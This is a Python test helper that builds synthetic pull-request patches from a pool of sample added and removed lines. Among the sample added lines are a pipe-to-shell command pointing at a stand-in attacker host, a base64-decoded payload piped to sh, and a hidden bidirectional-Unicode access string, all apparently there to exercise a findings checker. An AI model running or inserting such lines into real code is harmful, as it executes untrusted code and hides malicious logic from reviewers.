"""A stored (history) PR as the REST API would show it live: the same files, each with a ``patch``."""
from __future__ import annotations

import copy
import random

# Lines real patches add, including the content only the findings layer may judge: installer one-liners in
# docs and CI, decoded payloads, hidden Unicode.
ADDED = ("def handler(event):", "    return event", "import os", "- run: npm test",
         "curl -LsSf https://astral.sh/uv/install.sh | sh", "curl -fsSL https://evil.example/x.sh | bash",
         "echo aGk= | base64 -d | sh", "access = \"user\" # \u202e \u2066admin\u2069 \u2066",
         "Install with `pip install widgets`.", "      - uses: actions/checkout@v4")
REMOVED = ("old_call()", "- run: make", "See the wiki.")


def _patch(rng: random.Random, additions: int, deletions: int) -> str:
    additions, deletions = min(additions, 60), min(deletions, 60)  # GitHub truncates big patches too
    body = [f"-{rng.choice(REMOVED)}" for _ in range(deletions)] + [f"+{rng.choice(ADDED)}" for _ in range(additions)]
    return f"@@ -1,{deletions} +1,{additions} @@\n" + "\n".join(body)


def _count(value) -> int:
    return value if isinstance(value, int) and not isinstance(value, bool) and value > 0 else 0


def live(doc: dict, seed: int = 0) -> dict:
    """``doc`` with a patch on every file that has line changes (binary and unchanged files get none)."""
    rng = random.Random(f"{seed}:{doc.get('number')}")
    twin = copy.deepcopy(doc)
    for item in twin.get("files") or ():
        if not isinstance(item, dict):
            continue  # garbled entries stay as they are
        additions, deletions = _count(item.get("additions")), _count(item.get("deletions"))
        if additions or deletions:
            item["patch"] = _patch(rng, additions, deletions)
    return twin
